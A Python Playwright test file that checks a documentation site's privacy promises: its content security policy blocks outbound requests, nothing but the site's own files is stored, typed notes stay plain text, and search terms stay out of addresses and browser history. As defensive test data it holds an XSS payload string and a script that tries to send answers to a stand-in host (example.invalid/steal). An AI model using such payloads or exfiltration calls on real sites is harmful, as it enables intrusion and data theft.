"""Privacy, enforced by the browser: the policy holds, nothing leaves, nothing is stored, notes
are text. Each test backs a claim of the about and privacy page."""

from __future__ import annotations

import json
from urllib.parse import urlsplit

import pytest
from playwright.sync_api import TimeoutError as PlaywrightTimeout

from tests.test_checklist_browser import PAGE, answer, wait_for_python
from tests.test_site_browser import page_paths, search

LISTEN = """window.__csp = [];
document.addEventListener('securitypolicyviolation',
  e => window.__csp.push(e.violatedDirective + ' ' + e.blockedURI));"""
XSS = '<img src=x onerror="window.__xss=1"><script>window.__xss=2</script>'
ANSWER = "Typed answer 5e1c: the child said something only this tab may know"
STORED = """async () => {
  const cached = {};
  for (const name of await caches.keys()) {
    const cache = await caches.open(name);
    for (const request of await cache.keys()) {
      const response = await cache.match(request);
      if (name === "guidance-python-snapshot") {
        // Python's memory snapshot, stored gzip: look in its inflated bytes.
        const heap = response.body.pipeThrough(new DecompressionStream("gzip"));
        const bytes = new Uint8Array(await new Response(heap).arrayBuffer());
        cached[request.url] = new TextDecoder("latin1").decode(bytes);
      } else {
        cached[request.url] = await response.text();
      }
    }
  }
  return {
    local: Object.keys(localStorage), session: Object.keys(sessionStorage),
    localText: JSON.stringify(localStorage) + JSON.stringify(sessionStorage),
    cookie: document.cookie,
    indexedDB: (await indexedDB.databases()).map(d => d.name),
    cacheNames: await caches.keys(),
    cached,
  };
}"""
WORKER_STATE = """async () => {
  const r = await navigator.serviceWorker.getRegistration();
  const state = (w) => w && w.state;
  return {registration: Boolean(r), installing: state(r?.installing), waiting: state(r?.waiting),
    active: state(r?.active), controller: state(navigator.serviceWorker.controller),
    copy: document.documentElement.dataset.offlineCopy || null, url: location.href};
}"""


@pytest.fixture(scope="module", params=["test server", "nginx"])
def site_url(request, site_root) -> str:
    """Every claim checked as served by the test server (``_headers``) and by nginx with the
    generated hosting snippet (see conftest)."""
    root = request.getfixturevalue("nginx_root") if request.param == "nginx" else site_root
    return f"{root}latest/"


@pytest.fixture
def service_workers() -> str:
    """As a reader's browser does: the offline service worker runs (see conftest)."""
    return "allow"


@pytest.fixture
def watched(context):
    context.add_init_script(LISTEN)
    return context.new_page()


def use_the_checklist(page, tmp_path) -> None:
    """A full session: answers, a note, copy, show, save, clear, open."""
    page.goto(PAGE)
    wait_for_python(page)
    for item in ["adult", "images-of-own-children"]:
        answer(page, item, "yes")
    page.locator('input[name="contact"][value="regular"]').check()
    page.locator("#q-adult summary").click()
    page.locator("#note-adult").fill(XSS)
    page.locator('[data-prompt="conference"]').wait_for()
    page.get_by_role("button", name="Copy record").click()
    page.get_by_role("button", name="Show the record").click()
    with page.expect_download() as download:
        page.get_by_role("button", name="Save to a file").click()
    saved = tmp_path / "session.json"
    download.value.save_as(saved)
    page.once("dialog", lambda dialog: dialog.accept())
    page.get_by_role("button", name="Clear all answers").click()
    page.locator(".checklist__file").set_input_files(saved)
    page.get_by_text("Opened “session.json”").wait_for()


def test_no_policy_violation_while_reading_searching_and_using_the_checklist(
    watched, latest_site, tmp_path
):
    page = watched
    violations = {}
    for path in page_paths(latest_site):
        page.goto(path.lstrip("/"))
        page.wait_for_load_state("load")
        if found := page.evaluate("window.__csp"):
            violations[path] = found
    search(page, "2.9")
    use_the_checklist(page, tmp_path)
    violations["checklist session"] = page.evaluate("window.__csp")
    assert {k: v for k, v in violations.items() if v} == {}


def test_a_script_that_tries_to_send_data_elsewhere_is_blocked(watched):
    page = watched
    page.goto(PAGE)
    outcome = page.evaluate("""async () => {
      const results = {};
      try { await fetch('http://example.invalid/steal?answers=1'); results.fetch = 'sent'; }
      catch (e) { results.fetch = 'blocked'; }
      try {
        const socket = new WebSocket('ws://example.invalid/');
        results.socket = await new Promise(r => { socket.onopen = () => r('open');
                                                   socket.onerror = () => r('blocked'); });
      } catch (e) { results.socket = 'blocked'; }
      results.image = await new Promise(r => { const i = new Image();
        i.onload = () => r('loaded'); i.onerror = () => r('blocked');
        i.src = 'http://example.invalid/pixel.gif'; });
      return results;
    }""")
    assert outcome == {"fetch": "blocked", "socket": "blocked", "image": "blocked"}
    blocked = " ".join(page.evaluate("window.__csp"))
    assert "connect-src" in blocked and "img-src" in blocked


def test_after_a_full_checklist_session_only_the_sites_own_files_are_stored(
    context, watched, tmp_path, site_url, built_site
):
    page = watched
    site_root = site_url.removesuffix("latest/")  # the server under test's root
    use_the_checklist(page, tmp_path)
    page.locator("#note-adult").fill(ANSWER)
    page.wait_for_function(
        "() => document.querySelector('.checklist__record').textContent.includes('Typed answer')"
    )
    # Python's memory snapshot is made while the checklist page is open (a worker of its own,
    # which stops with the page): wait for it here, before search loads another page.
    page.wait_for_selector("html[data-python-snapshot='stored']", state="attached", timeout=120_000)
    search(page, "harm")
    # Once the offline copy is complete (see test_offline_browser), look at everything stored.
    # The offline copy (14 MB) downloads after Python has loaded: minutes on a loaded machine.
    try:
        page.wait_for_function(
            "() => navigator.serviceWorker.controller?.state === 'activated'", timeout=180_000
        )
    except PlaywrightTimeout:  # say where the offline copy stopped
        state = page.evaluate(WORKER_STATE)
        raise AssertionError(f"the offline copy never completed: {state}") from None
    stored = page.evaluate(STORED)
    assert {k: stored[k] for k in ("local", "session", "cookie", "indexedDB")} == {
        "local": [],
        "session": ["/latest/.__outdated"],
        "cookie": "",
        "indexedDB": [],
    }
    # The theme's version selector notes, for this tab only, whether this edition is outdated.
    assert page.evaluate("sessionStorage.getItem('/latest/.__outdated')") == "false"
    assert context.cookies() == []
    # Cache Storage: the service worker's copy of this site's public files, and Python's memory
    # snapshot (public code and data, made by a worker that never sees an answer), nothing else.
    # (The worker sits at the site's root and precaches latest/ and the root's redirects.)
    stored = page.evaluate(STORED)
    assert sorted(stored["cacheNames"]) == sorted(
        [f"workbox-precache-v2-{site_root}", "guidance-python-snapshot"]
    )
    snapshots = [u for u in stored["cached"] if u.endswith("/memory-snapshot")]
    [key] = [p.name for p in (built_site / "latest" / "assets" / "pyodide").iterdir()]
    assert snapshots == [f"{site_root}latest/assets/pyodide/{key}/memory-snapshot"]
    heap = stored["cached"].pop(snapshots[0])
    assert len(heap) > 1_000_000 and "calculators" in heap  # inflated: a real heap
    assert ANSWER not in heap and "5e1c" not in heap and "window.__xss" not in heap
    wide = "Typed answer".encode("utf-16-le").decode("latin1")  # as a JS or UCS-2 string
    assert "Typed answer" not in heap and wide not in heap
    assert len(stored["cached"]) > 40
    for url, text in stored["cached"].items():
        assert url.startswith(site_root), url
        assert (built_site / urlsplit(url).path.lstrip("/")).is_file(), url
        assert ANSWER not in text and "5e1c" not in text, url
    assert "5e1c" not in stored["localText"]


def test_markup_in_notes_is_text_in_the_panel_the_copied_record_and_the_print_view(watched):
    page = watched
    page.goto(PAGE)
    wait_for_python(page)
    answer(page, "images-of-own-children", "yes")
    page.locator("#q-images-of-own-children summary").click()
    page.locator("#note-images-of-own-children").fill(XSS)
    record = page.locator(".checklist__record")
    page.wait_for_function(
        "() => document.querySelector('.checklist__record').textContent.includes('onerror')"
    )
    page.get_by_role("button", name="Show the record").click()
    assert f"Note: {XSS}" in record.inner_text()
    page.get_by_role("button", name="Copy record").click()
    page.get_by_text("Record copied").wait_for()
    assert f"Note: {XSS}" in page.evaluate("navigator.clipboard.readText()")
    page.emulate_media(media="print")
    assert record.is_visible() and f"Note: {XSS}" in record.inner_text()
    assert page.locator("#q-adult").is_hidden()  # the print view is the record
    assert page.evaluate("window.__xss") is None
    assert page.locator(".checklist img, .checklist__record script").count() == 0


def test_the_privacy_page_says_what_the_tests_check(page):
    page.goto("about/")
    text = page.locator("article").inner_text()
    for claim in [
        "Nothing you type is sent anywhere",
        "no cookies",
        "Nothing is kept unless you save",
        "loads nothing from any other website",
        "never contains your answers",
        "delete this site's data",
    ]:
        assert claim in text


def test_the_saved_file_holds_only_answers_notes_and_edition(watched, tmp_path):
    page = watched
    use_the_checklist(page, tmp_path)
    saved = json.loads((tmp_path / "session.json").read_text())
    # The privacy page's list, written here independently of the code that writes the file.
    fields = "format format_version checklist edition edition_number saved_at answers notes"
    assert set(saved) == set(fields.split())


TERM = "offender"  # in many paragraphs, in no page's address
HISTORY = """() => ({href: location.href, length: history.length,
  state: JSON.stringify(history.state), entries: performance.getEntriesByType('navigation')
    .map((entry) => entry.name)})"""
CACHE_KEYS = """async () => {
  const urls = [];
  for (const name of await caches.keys()) {
    for (const request of await (await caches.open(name)).keys()) urls.push(request.url);
  }
  return urls;
}"""


def test_after_a_search_and_a_click_no_address_holds_the_term(context, watched):
    page = watched
    page.goto("")
    page.wait_for_function(
        "() => navigator.serviceWorker.controller?.state === 'activated'", timeout=180_000
    )
    addresses = []  # every address the tab shows, in-page (instant) navigations included
    page.on("framenavigated", lambda frame: addresses.append(frame.url))
    assert search(page, TERM)
    links = page.locator("a.md-search-result__link").evaluate_all("(as) => as.map((a) => a.href)")
    start = page.url
    page.locator("a.md-search-result__link").first.click()
    page.wait_for_function("(start) => location.href !== start", arg=start)
    page.wait_for_function("() => !document.getElementById('__search').checked")
    page.wait_for_load_state()
    seen = page.evaluate(HISTORY)
    stored = page.evaluate(CACHE_KEYS)
    assert len(stored) > 40  # the offline copy is there to look in
    everywhere = [*links, *addresses, *context.requests, *stored, *seen["entries"]]
    everywhere += [seen["href"], seen["state"]]
    assert [a for a in everywhere if TERM in a or "h=" in a] == []
    assert len(addresses) >= 2 and addresses[-1] == seen["href"]


def test_the_browsers_own_history_database_holds_no_search_term(chromium, site_url, tmp_path):
    """Issue 27: after a search and a click, the term is in none of the addresses the browser
    itself keeps (its History database and session files), read from a real profile."""
    import sqlite3

    from devtools.chromium import ARGS, CHROMIUM

    profile = tmp_path / "profile"
    context = chromium.browser_type.launch_persistent_context(
        str(profile), executable_path=str(CHROMIUM), args=ARGS, base_url=site_url
    )
    page = context.new_page()
    page.goto("")
    assert search(page, TERM)
    start = page.url
    page.locator("a.md-search-result__link").first.click()
    page.wait_for_function("(start) => location.href !== start", arg=start)
    page.wait_for_load_state()
    context.close()  # the profile's files are written out
    with sqlite3.connect(profile / "Default" / "History") as db:
        urls = [url for (url,) in db.execute("SELECT url FROM urls")]
    assert any(url.startswith(site_url) for url in urls)  # the visits are there to look in
    assert [url for url in urls if TERM in url or "h=" in url] == []
    sessions = list((profile / "Default" / "Sessions").glob("*"))
    assert [f.name for f in sessions if f"h={TERM}".encode() in f.read_bytes()] == []
